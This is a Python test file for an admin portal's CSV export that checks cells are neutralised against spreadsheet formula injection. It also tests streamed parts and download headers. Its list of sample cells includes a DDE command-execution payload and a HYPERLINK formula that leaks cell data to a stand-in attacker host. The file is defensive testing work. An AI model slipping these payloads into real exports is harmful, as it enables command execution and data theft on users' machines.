"""Files of CSV that no spreadsheet takes for formulas."""

import csv
import io
from collections.abc import Iterator

import pytest
from hypothesis import given, strategies as st

from admin_portal.csv_files import ROWS_IN_A_PART, csv_answer, csv_parts, harmless

EXECUTED = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|'/c calc'!A0",
    "\ttext",
]
SEPARATED = ["x;=1+1", "x\t=1+1", "x\n=1+1", "x; =1+1", 'x;"=1+1', "x\r\n@a"]
HARMLESS = ["", "Acme", "mia@example.com", "a=b", "a-b", "1+1", "Tom's; and more", "😀", "日本-語"]


@pytest.mark.parametrize("cell", EXECUTED)
def test_cell_that_could_be_a_formula_starts_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell).startswith("'")
    assert harmless(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", SEPARATED)
def test_formula_behind_what_some_spreadsheets_take_for_a_separator_is_one_too(cell: str) -> None:
    assert "'" in harmless(cell)
    assert harmless(cell).replace("'", "") == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.text(st.sampled_from("=+-@\t\r\n;\"' ab＝"), max_size=8))
def test_no_row_read_with_either_separator_has_a_formula_in_it(cell: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow(["first", harmless(cell), "last"])

    for separator in ",;\t":
        for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=separator):
            for read in row:
                assert not read.strip(' "\t\r\n').startswith(tuple("=+-@＝")), (separator, row)


def test_every_cell_of_a_file_is_made_harmless() -> None:
    written = "".join(csv_parts(["Name", "=1+1"], [["Acme", "+1"], ["A, B", 'say "so"']]))

    assert written.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(written[1:], newline=""))) == [
        ["Name", "'=1+1"],
        ["Acme", "'+1"],
        ["A, B", 'say "so"'],
    ]


def test_file_without_rows_has_its_head() -> None:
    assert list(csv_parts(["Name"], [])) == ['\ufeff"Name"\r\n']


def test_rows_are_read_as_the_file_is_sent() -> None:
    read: list[int] = []

    def rows() -> Iterator[list[str]]:
        for number in range(ROWS_IN_A_PART + 1):
            read.append(number)
            yield [str(number)]

    parts = csv_parts(["Number"], rows())
    counts = [(part.count("\n"), len(read)) for part in parts]

    assert counts == [(1, 0), (ROWS_IN_A_PART, ROWS_IN_A_PART), (1, ROWS_IN_A_PART + 1)]


def test_browser_saves_the_answer_under_its_name() -> None:
    answer = csv_answer("keys.csv", ["Name"], [["Acme"]])

    assert answer.streaming
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="keys.csv"'
    assert answer.getvalue().decode() == '\ufeff"Name"\r\n"Acme"\r\n'
